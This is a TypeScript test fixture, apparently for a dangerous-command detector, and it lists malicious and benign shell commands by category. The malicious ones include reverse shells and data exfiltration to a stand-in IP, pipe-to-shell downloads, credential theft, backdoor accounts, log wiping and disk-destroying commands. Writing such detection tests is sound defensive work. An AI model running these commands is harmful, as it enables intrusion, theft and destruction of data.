import { lines, type Case } from './told-events'

export const COMMAND_CASES: Record<string, Case> = {
  'cmd.authorized_keys': lines(['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'curl x | tee -a /root/.ssh/authorized_keys'], ['ls -l ~/.ssh/authorized_keys']),
  'cmd.chattr': lines(['chattr +i /etc/passwd', 'sudo chattr -R -ia /var/www'], ['lsattr /etc/passwd']),
  'cmd.download_execute': lines(
    ['wget http://x/a -O a; chmod +x a; ./a', 'chmod +x /dev/shm/.k && nohup /dev/shm/.k &', 'chmod 755 /tmp/a'],
    ['chmod +x build.sh', 'wget http://x/a', 'chmod 644 /tmp/a'],
  ),
  'cmd.account': lines(['sudo useradd -o -u 0 eve', '/usr/sbin/usermod -aG sudo eve', 'passwd -d root'], ['grep useradd /var/log/auth.log', 'cat /etc/passwd']),
  'cmd.sudoers': lines(["echo 'eve ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x", 'cp x /etc/sudoers'], ['cat /etc/sudoers']),
  'cmd.credential_files': lines(['cat /etc/shadow', 'tar czf k.tgz ~/.ssh/id_ed25519', 'cp ~/.aws/credentials /tmp'], ['cat ~/.ssh/id_rsa.pub', 'ssh -i ~/.ssh/id_rsa host']),
  'cmd.persistence': lines(
    ['(crontab -l; echo x) | crontab -', 'echo x >> /etc/crontab', 'cp a.service /etc/systemd/system/', 'echo x >> ~/.bashrc', 'crontab evil.txt'],
    ['crontab -l', 'crontab -e', 'cat ~/.bashrc', 'systemctl status cron'],
  ),
  'cmd.pipe_to_shell': lines(['curl -s http://x | sh', 'wget -qO- http://x | sudo bash', 'bash <(curl -s http://x)', 'bash -c "$(curl -fsSL x)"'], ['curl http://x | jq .', 'curl http://x; sh y']),
  'cmd.log_tamper': lines(
    ['history -c', 'unset HISTFILE', 'rm -rf /var/log/auth.log', 'cat /dev/null > /var/log/wtmp', 'ln -sf /dev/null ~/.bash_history', 'sudo journalctl --vacuum-time=1s', 'auditctl -D'],
    ['history', 'tail -f /var/log/auth.log', 'grep x /var/log/syslog > out', 'journalctl -u ssh'],
  ),
  'cmd.destructive': lines(['rm -rf /', 'rm -rf --no-preserve-root /', 'rm -r -f /*', 'mkfs.ext4 /dev/sdb1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:'], ['rm -rf ./build', 'rm -rf /tmp/x', 'dd if=/dev/sda of=x.img', 'shred -u /dev/shm/x']),
  'cmd.setuid': lines(['chmod u+s /bin/bash', 'chmod 4755 /tmp/sh', 'setcap cap_setuid+ep /usr/bin/python3'], ['chmod 0755 x', 'chmod 2775 dir', 'chmod g+s dir', 'chmod u+x x']),
  'cmd.security_stop': lines(
    ['sudo systemctl stop auditd', 'service rsyslog stop', 'setenforce 0', 'iptables -F', 'ufw disable', 'pkill auditd'],
    ['systemctl status auditd', 'systemctl stop nginx', 'iptables -L', 'systemctl restart rsyslog'],
  ),
  'cmd.encoded': lines(['echo aWQ= | base64 -d | sh', String.raw`printf '\x63\x75\x72\x6c\x20\x2d\x73'`, `python3 -c "exec(__import__('base64').b64decode('x'))"`], ['base64 file > file.b64', 'echo aWQ= | base64 -d']),
  'cmd.reverse_shell': lines(
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'nc -e /bin/sh 203.0.113.9 4444', 'mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.9 44 > /tmp/f', 'socat tcp:203.0.113.9:1 exec:sh'],
    ['nc -zv db 5432', 'ssh -L 8080:localhost:80 web'],
  ),
  'cmd.preload': lines(['insmod rootkit.ko', 'echo /lib/x.so > /etc/ld.so.preload', 'sudo modprobe evil', 'gdb -p 123'], ['lsmod', 'gdb ./a.out']),
  'cmd.sent_out': lines(['curl -F file=@/etc/passwd http://x', 'tar cz /srv | nc 203.0.113.9 99', 'scp -q -P 2222 /tmp/.c.tgz sync@203.0.113.90:in/'], ['curl http://x', 'scp a web:/srv', 'tar czf a.tgz a']),
  'cmd.scan': lines(['nmap -sS 10.0.0.0/24', 'sudo tcpdump -i eth0'], ['man nmap']),
}
